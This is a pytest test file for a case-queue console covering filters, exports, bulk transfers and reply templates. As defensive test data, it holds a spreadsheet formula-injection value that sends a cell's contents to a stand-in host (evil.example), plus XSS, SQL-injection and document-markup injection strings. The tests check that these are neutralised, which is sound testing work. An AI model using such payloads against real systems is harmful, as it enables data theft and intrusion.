"""The queue table (#12): filters in SQL and in the address, workload numbers as filters,
bulk routing through the page (all or nothing), the export of the whole filtered queue,
reply templates by role and the written reply in Word."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select, update

from console.views.queue import table
from core.cases.queue import (
    QueueFilters,
    assignment_queue,
    bulk_targets,
    queue_export,
    queue_page,
)
from core.cases.replies import (
    DEFAULT_TEXT,
    REPLY_TEMPLATE,
    render_written_reply,
    reply_template,
    save_reply_template,
)
from core.config import AppConfig
from core.deadlines.colours import Colour
from core.errors import UserError
from core.startup import seed_demo_district
from core.vocab import Channel, ContentType, MatterState, RiskSignal, Role, Topic
from db.models import ChangeLog, Matter, MatterEvent, Submission
from db.session import Database
from tests.actors import ADMIN, CLERK, actor
from tests.test_app import signed_in

TODAY = dt.date(2026, 11, 18)
PAGE = str(Path(__file__).resolve().parents[1] / "pages" / "queue.py")
BULK = {"accepted", "assigned", "in_handling"}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.fixture
def district(database, database_url):
    config = AppConfig(database_url=database_url, demo_mode=True, cookie_key="k" * 40)
    seed_demo_district(database, config, items=300, today=TODAY)
    return database


# --- core: filters, workload, export ---------------------------------------------------


def _ids(page) -> list[int]:
    return list(page.rows["matter_id"])


def test_each_filter_narrows_the_queue_in_sql(district):
    with district.read() as s:
        full = assignment_queue(s, TODAY)
        facts = {
            m.id: m for m in s.scalars(select(Matter).where(Matter.id.in_(list(full["matter_id"]))))
        }
        filed = s.execute(select(Submission.matter_id, Submission.channel, Submission.agent_id))
        channels, agents = {}, {}
        for matter_id, channel, agent_id in filed:
            channels.setdefault(matter_id, set()).add(channel)
            agents.setdefault(matter_id, set()).add(agent_id)
        some = facts[int(full["matter_id"].iloc[0])]
        agent_id = next(a for m in full["matter_id"] for a in agents.get(m, ()) if a)
        cases = [
            (QueueFilters(town_id=some.town_id), lambda m: m.town_id == some.town_id),
            (QueueFilters(topic=some.topic), lambda m: m.topic == some.topic),
            (
                QueueFilters(content_type=ContentType.REQUEST),
                lambda m: m.content_type == ContentType.REQUEST,
            ),
            (
                QueueFilters(channel=Channel.AGENT_ONLINE),
                lambda m: Channel.AGENT_ONLINE in channels.get(m.id, ()),
            ),
            (QueueFilters(agent_id=agent_id), lambda m: agent_id in agents.get(m.id, ())),
            (
                QueueFilters(risks=frozenset({RiskSignal.REPEAT, RiskSignal.EMOTION})),
                lambda m: m.risk_repeat or m.risk_emotion,
            ),
        ]
        for filters, keep in cases:
            expected = [m for m in full["matter_id"] if keep(facts[m])]
            page = queue_page(s, TODAY, filters=filters, page_size=10_000)
            assert _ids(page) == expected, filters
            assert page.shown == len(expected)
            assert page.workload["open"].sum() == len(expected), "the workload is filtered too"
        assert any(len([m for m in full["matter_id"] if k(facts[m])]) for _, k in cases)


def test_each_workload_number_is_the_list_it_filters_to(district):
    due_weeks = 0
    with district.read() as s:
        for day in (TODAY, TODAY + dt.timedelta(days=5), TODAY - dt.timedelta(days=10)):
            page = queue_page(s, day)
            assert not page.workload.empty
            for row in page.workload.itertuples(index=False):
                if row.unit_id is None:
                    continue
                assert queue_page(s, day, unit_id=row.unit_id).shown == row.open
                overdue = queue_page(
                    s, day, unit_id=row.unit_id, colour=Colour.OVERDUE, page_size=10_000
                )
                assert overdue.shown == row.overdue == len(overdue.rows)
                assert overdue.rows["overdue"].all()
                week = queue_page(
                    s,
                    day,
                    unit_id=row.unit_id,
                    filters=QueueFilters(due_this_week=True),
                    page_size=10_000,
                )
                assert week.shown == row.due_this_week == len(week.rows)
                due_weeks += row.due_this_week
    assert due_weeks > 0


def test_the_export_is_the_whole_filtered_queue_and_text_stays_text(district):
    with district.write() as s:
        first = s.scalars(
            select(Matter).where(Matter.state == MatterState.ASSIGNED).order_by(Matter.id)
        ).first()
        # a row saved before input was checked
        s.execute(update(Matter).where(Matter.id == first.id).values(summary=HOSTILE))
    with district.read() as s:
        whole = queue_page(s, TODAY, page_size=10_000)
        export = queue_export(s, TODAY)
        assert not export.truncated
        assert list(export.rows["matter_id"]) == _ids(whole)
        assert len(export.rows) > len(queue_page(s, TODAY, page_size=5).rows) == 5
        assigned = queue_export(s, TODAY, state=MatterState.ASSIGNED)
        assert set(assigned.rows["state"]) == {MatterState.ASSIGNED.value}
        capped = queue_export(s, TODAY, limit=7)
        assert capped.truncated and len(capped.rows) == 7
        liaison = actor("liaison", unit_id=first.unit_id)
        scoped = queue_export(s, TODAY, viewer=liaison, unit_id=None)
        assert set(scoped.rows["unit_id"]) == {first.unit_id}, "a liaison's export is its own"
    # the page's download: the whole filtered queue, as shown, built outside the script run
    data = table._export(district, CLERK, TODAY, {"state": MatterState.ASSIGNED}, "zh")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.max_row == len(assigned.rows) + 1
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)


def test_bulk_targets_never_offer_an_accused_unit(district):
    with district.write() as s:
        first, other = s.scalars(
            select(Matter)
            .where(
                Matter.state.in_([MatterState.ASSIGNED, MatterState.IN_HANDLING]),
                Matter.accused_unit_id.is_(None),
            )
            .order_by(Matter.id)
            .limit(2)
        ).all()
        before = bulk_targets(s, [first.id, other.id], viewer=CLERK)
        accused = int(next(u for u in before["unit_id"] if u != first.unit_id))
        s.execute(update(Matter).where(Matter.id == first.id).values(accused_unit_id=accused))
    with district.read() as s:
        units = set(bulk_targets(s, [first.id, other.id], viewer=CLERK)["unit_id"])
    assert units == set(before["unit_id"]) - {accused}


# --- core: reply templates and the written reply ----------------------------------------


def test_reply_templates_are_edited_by_administrators_only_and_logged(database):
    key = (Topic.LAND, ContentType.REQUEST)
    with database.read() as s:
        assert reply_template(s, *key) == DEFAULT_TEXT[ContentType.REQUEST]
    for who in (CLERK, actor("supervisor"), actor("trainer"), actor("liaison", unit_id=1)):
        with pytest.raises(UserError) as refused, database.write() as s:
            save_reply_template(s, *key, "经核实……", who)
        assert refused.value.key == "error.not_allowed"
    with database.read() as s:
        assert s.scalar(select(ChangeLog).where(ChangeLog.entity == REPLY_TEMPLATE)) is None
    with pytest.raises(UserError) as bad, database.write() as s:
        save_reply_template(s, *key, "bad\x00text", ADMIN)
    assert bad.value.field == "text"
    with database.write() as s:
        assert save_reply_template(s, *key, "关于征地补偿，经核实：", ADMIN, reason="新政策")
        assert not save_reply_template(s, *key, "关于征地补偿，经核实：", ADMIN)
    with database.read() as s:
        assert reply_template(s, *key) == "关于征地补偿，经核实："
        assert reply_template(s, Topic.LAND, ContentType.APPEAL) == DEFAULT_TEXT[ContentType.APPEAL]
        row = s.scalars(select(ChangeLog).where(ChangeLog.entity == REPLY_TEMPLATE)).one()
        assert (row.actor, row.reason, row.entity_key) == ("admin", "新政策", "land/request")
    with database.write() as s:
        save_reply_template(s, *key, "  ", ADMIN)
    with database.read() as s:
        assert reply_template(s, *key) == DEFAULT_TEXT[ContentType.REQUEST]


def test_the_written_reply_prints_markup_as_text(district, tmp_path):
    reply = '经核实 & 处理：<w:p><w:r><w:t>伪造</w:t></w:r></w:p> {{ office }}\n第二段 "引号"'
    with district.write() as s:
        matter = s.scalars(
            select(Matter)
            .where(Matter.state == MatterState.REPLIED, Matter.accused_unit_id.is_(None))
            .order_by(Matter.id)
        ).first()
        matter_id, unit_id = matter.id, matter.unit_id
        s.execute(update(Matter).where(Matter.id == matter_id).values(reply_text=reply))
        pending = s.scalars(select(Matter).where(Matter.state == MatterState.ASSIGNED)).first()
    with district.read() as s:
        data = render_written_reply(s, matter_id, CLERK, tmp_path)
        own = render_written_reply(s, matter_id, actor("liaison", unit_id=unit_id), tmp_path)
        assert own
        with pytest.raises(UserError) as hidden:
            render_written_reply(s, matter_id, actor("liaison", unit_id=unit_id + 1), tmp_path)
        assert hidden.value.key == "error.matter_forbidden"
        with pytest.raises(UserError) as early:
            render_written_reply(s, pending.id, CLERK, tmp_path)
        assert early.value.key == "error.written_reply_missing"
    text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert "经核实 & 处理：<w:p><w:r><w:t>伪造</w:t></w:r></w:p> {{ office }}" in text
    assert '第二段 "引号"' in text
    assert "书面答复意见书" in text


# --- the page (AppTest) ----------------------------------------------------------------


def _open(role: Role, params: dict[str, str] | None = None):
    at = signed_in(role)
    at.run()
    at.switch_page(PAGE)
    for name, value in (params or {}).items():
        at.query_params[name] = value
    at.run()
    assert not at.exception, at.exception
    return at


def _table_key(at) -> str:
    return next(d.key for d in at.dataframe if (d.key or "").startswith("qu_table_"))


def test_filters_come_from_the_address_and_go_back_to_it(console_env):
    at = _open(
        Role.CLERK,
        {
            "topic": "land",
            "state": "assigned",
            "risk": "repeat,bogus,emotion",
            "unit": "<script>alert(1)</script>",
            "light": "999",
            "town": "1 OR 1=1",
            "nonsense": "x",
        },
    )
    assert not at.error, [e.value for e in at.error]
    assert at.selectbox(key="qu_topic").value == Topic.LAND
    assert at.selectbox(key="qu_state").value == MatterState.ASSIGNED
    assert at.multiselect(key="qu_risk").value == [RiskSignal.REPEAT, RiskSignal.EMOTION]
    assert at.selectbox(key="qu_unit").value is None, "a hostile value is ignored"
    assert at.selectbox(key="qu_colour").value is None
    assert at.selectbox(key="qu_town").value is None
    assert at.query_params["risk"] == "repeat,emotion"
    assert "unit" not in at.query_params
    assert at.session_state["qu_cases"] is not None

    at.selectbox(key="qu_state").set_value(MatterState.IN_HANDLING).run()
    assert at.query_params["state"] == "in_handling"
    at.selectbox(key="qu_topic").set_value(None).run()
    assert "topic" not in at.query_params
    assert not at.exception


def test_a_liaisons_link_never_widens_its_scope(console_env):
    from tests.demo_data import unit_of

    own = unit_of(console_env, "liaison")
    at = _open(Role.UNIT_LIAISON, {"unit": str(own + 1), "state": "assigned"})
    assert not at.error, [e.value for e in at.error]
    cases = at.session_state["qu_cases"]
    database = Database.connect(console_env)
    with database.read() as s:
        units = set(s.scalars(select(Matter.unit_id).where(Matter.case_number.in_(cases))).all())
    database.dispose()
    assert units <= {own}


def _tick(at, n: int) -> list[str]:
    """Tick the first `n` rows that a bulk action can route; their case numbers."""
    _key, seen = at.session_state["qu_seen"]
    movable = [i for i, row in enumerate(seen) if row[3] in BULK][:n]
    assert len(movable) == n, seen
    at.session_state[_table_key(at)] = {"selection": {"rows": movable}}
    at.run()
    return [seen[i][2] for i in movable]


def _matters(url, cases) -> dict[str, tuple[int, int | None, int]]:
    database = Database.connect(url)
    with database.read() as s:
        found = s.scalars(select(Matter).where(Matter.case_number.in_(cases))).all()
        result = {m.case_number: (m.id, m.unit_id, m.version) for m in found}
    database.dispose()
    return result


def _elsewhere(url, before) -> int:
    """A unit the batch may go to that handles none of the ticked matters."""
    held = {unit for _, unit, _ in before.values()}
    database = Database.connect(url)
    with database.read() as s:
        units = bulk_targets(s, [m for m, _, _ in before.values()], viewer=CLERK)
    database.dispose()
    return next(int(u) for u in units["unit_id"] if u not in held)


def test_bulk_transfer_through_the_page_is_all_or_nothing(console_env):
    at = _open(Role.CLERK)
    assert "qu_bulk_go" not in [b.key for b in at.button], "nothing ticked yet"
    assert any("最多 100 件" in c.value for c in at.caption), "the cap is on the page"
    cases = _tick(at, 3)
    before = _matters(console_env, cases)
    at.selectbox(key="qu_bulk_unit").set_value(_elsewhere(console_env, before)).run()

    at.button(key="qu_bulk_go").click().run()
    assert any("必填" in e.value for e in at.error), "a transfer needs a reason"
    assert _matters(console_env, cases) == before

    at.text_input(key="qu_bulk_reason").input("按职责分工批量转办").run()
    # someone else changes the second matter after the page showed it
    stale = cases[1]
    database = Database.connect(console_env)
    with database.write() as s:
        s.execute(
            update(Matter).where(Matter.case_number == stale).values(version=Matter.version + 1)
        )
    database.dispose()
    at.button(key="qu_bulk_go").click().run()
    errors = [e.value for e in at.error]
    assert any(stale in e and "整批未作任何更改" in e for e in errors), errors
    expected = dict(before)
    matter_id, unit_id, version = before[stale]
    expected[stale] = (matter_id, unit_id, version + 1)
    assert _matters(console_env, cases) == expected, "nothing changed"

    # the page now shows the current versions: ticked again, the batch goes through
    cases = _tick(at, 2)
    before = _matters(console_env, cases)
    target = _elsewhere(console_env, before)
    at.selectbox(key="qu_bulk_unit").set_value(target)
    at.text_input(key="qu_bulk_reason").input("按职责分工批量转办").run()
    at.button(key="qu_bulk_go").click().run()
    assert not at.error, [e.value for e in at.error]
    assert any("已批量办理 2 件" in m.value for m in at.success)
    after = _matters(console_env, cases)
    assert {unit for _, unit, _ in after.values()} == {target}
    database = Database.connect(console_env)
    with database.read() as s:
        events = s.scalars(
            select(MatterEvent).where(
                MatterEvent.matter_id.in_([m for m, _, _ in after.values()]),
                MatterEvent.kind.in_(["transferred", "assigned"]),
            )
        ).all()
    database.dispose()
    bulk_ids = {e.after.get("bulk_action") for e in events if e.after.get("bulk_action")}
    assert len(bulk_ids) == 1 and len([e for e in events if e.after.get("bulk_action")]) == 2


def test_bulk_is_offered_to_office_roles_only(console_env):
    at = _open(Role.UNIT_LIAISON)
    if at.session_state["qu_cases"]:
        at.session_state[_table_key(at)] = {"selection": {"rows": [0]}}
        at.run()
    assert "qu_bulk_go" not in [b.key for b in at.button]
    assert not any("最多 100 件" in c.value for c in at.caption)


def test_reply_templates_editor_for_administrators_only(console_env):
    assert "rt_save" in [b.key for b in _open(Role.ADMIN).button]
    for role in (Role.CLERK, Role.SUPERVISOR, Role.UNIT_LIAISON):
        assert "rt_save" not in [b.key for b in _open(role).button]


def test_the_reply_form_starts_from_the_template(console_env):
    from tests.demo_data import matter_in

    case, matter_id = matter_in(console_env, MatterState.IN_HANDLING)
    at = _open(Role.CLERK)
    at.text_input(key="qu_lookup").input(case).run()
    assert at.text_area(key=f"qu_reply_{matter_id}").value in ("", None)
    at.button(key=f"qu_reply_{matter_id}_template").click().run()
    database = Database.connect(console_env)
    with database.read() as s:
        matter = s.get(Matter, matter_id)
        expected = reply_template(s, matter.topic, matter.content_type)
    database.dispose()
    assert at.text_area(key=f"qu_reply_{matter_id}").value == expected
